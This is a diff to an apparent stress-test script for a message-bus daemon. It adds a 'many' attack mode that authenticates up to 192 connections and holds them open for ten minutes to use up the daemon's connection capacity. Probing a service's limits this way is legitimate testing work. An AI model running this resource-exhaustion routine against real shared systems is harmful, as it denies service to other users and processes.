@@ -61,6 +61,23 @@ def never_accepting():
     return listener, first
 
 
-held = {"mechanisms": mechanisms, "unfinished": unfinished, "never-accepting": never_accepting}[attack]()
+def many():
+    """As many connections as the daemon takes, of 192."""
+    held = []
+    for _ in range(192):
+        connection = connect()
+        connection.settimeout(5)
+        try:
+            connection.sendall(b"\0AUTH EXTERNAL %s\r\n" % str(os.getuid()).encode().hex().encode())
+            if connection.recv(4096).startswith(b"OK"):
+                connection.sendall(b"BEGIN\r\n")
+                held.append(connection)
+        except OSError:
+            pass  # it is turned away
+    print("taken:", len(held))
+    return held
+
+
+held = {"mechanisms": mechanisms, "unfinished": unfinished, "never-accepting": never_accepting, "many": many}[attack]()
 sys.stdout.flush()
 time.sleep(600)
